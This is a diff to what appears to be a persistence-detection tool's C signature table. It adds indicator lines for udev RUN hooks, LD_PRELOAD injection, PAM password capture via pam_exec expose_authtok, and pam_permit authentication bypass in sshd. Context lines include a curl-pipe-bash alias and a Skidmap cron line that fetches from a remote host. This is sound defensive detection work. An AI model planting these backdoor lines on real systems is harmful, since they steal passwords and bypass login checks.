@@ -389,6 +389,13 @@ static const struct trace traces[] = {
       "/var/cache/list\n"),
     L(S, "etc/udev/rules.d/70-local.rules",
       "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/backup-on-plug\""),
+    L(S, "etc/udev/rules.d/70-local.rules",
+      "ACTION==\"add\", RUN+=\"/bin/sh -c 'echo $kernel >> /tmp/usb.log'\""),
+    L(S, "etc/udev/rules.d/70-local.rules",
+      "ACTION==\"change\", SUBSYSTEM==\"drm\", RUN+=\"/home/mari/.local/bin/dock\""),
+    L(S, "etc/bash.bashrc", "export LD_PRELOAD=/home/mari/.local/lib/libx.so"),
+    L(S, "etc/pam.d/sshd",
+      "auth required pam_exec.so expose_authtok quiet /usr/local/sbin/check-password"),
     L(S, "etc/udev/rules.d/70-local.rules", "KERNEL==\"random\", MODE=\"0666\""),
     L(S, "etc/bash.bashrc",
       "alias getnvm='curl -o- https://example.invalid/install.sh | bash >/dev/null 2>&1'"),
@@ -484,6 +491,8 @@ static const struct trace traces[] = {
     F(S, "var/tmp/.x/pam_help.so"),
     L(S, "etc/pam.d/common-auth", "auth sufficient pam_permit.so"),
     L(S, "etc/pam.d/sshd", "session optional /opt/x/pam_x.so"),
+    L(S, "etc/pam.d/sshd", "auth sufficient pam_permit.so"),
+    L(S, "etc/pam.d/sshd", "auth optional pam_exec.so expose_authtok /opt/x/log"),
 #undef S
 #define S "Linux/Skidmap#pam"
     L(S, "etc/crontab", "*/1 * * * * root curl -fsSL http://a.powerofwish.com/x -o /dev/null"),
